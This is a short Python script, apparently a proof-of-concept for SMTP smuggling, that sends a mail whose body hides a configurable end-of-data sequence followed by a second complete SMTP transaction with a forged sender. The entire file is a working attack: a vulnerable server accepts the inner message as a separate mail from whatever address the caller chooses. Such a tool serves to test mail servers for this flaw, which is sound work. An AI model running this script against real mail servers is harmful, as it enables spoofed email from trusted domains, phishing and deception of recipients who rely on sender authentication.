#!/usr/bin/env python3
"""mailraw.py SERVER PORT RECIPIENT NAME END [SENDER]: a message with a second one inside, behind END (as in "\\n.\\n").

If the server takes END for the end of the message, what follows becomes commands, and a mail of the subject smuggled-NAME
comes out, sent by whomever it says. Prints the answers.
"""
import socket
import sys

server, port, recipient, name, end = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4], sys.argv[5].encode().decode("unicode_escape")
sender = sys.argv[6] if len(sys.argv) > 6 else "s@elsewhere.example"
envelope = f"MAIL FROM:<{sender}>\r\nRCPT TO:<{recipient}>\r\nDATA\r\n"
inner = f"{envelope}From: {sender}\r\nSubject: smuggled-{name}\r\n\r\nsecond\r\n.\r\nQUIT\r\n"
with socket.create_connection((server, port), timeout=20) as session:
    answers = session.makefile("rb")

    def says(text):
        session.sendall(text.encode())
        while True:
            line = answers.readline()
            sys.stdout.write(line.decode("latin1"))
            if not line or line[3:4] == b" ":
                return

    says("")
    says("EHLO raw.example\r\n")
    for line in envelope.splitlines():
        says(line + "\r\n")
    session.sendall(f"From: {sender}\r\nSubject: outer-{name}\r\n\r\nfirst{end}{inner}".encode())
    session.shutdown(socket.SHUT_WR)
    sys.stdout.write(answers.read().decode("latin1"))
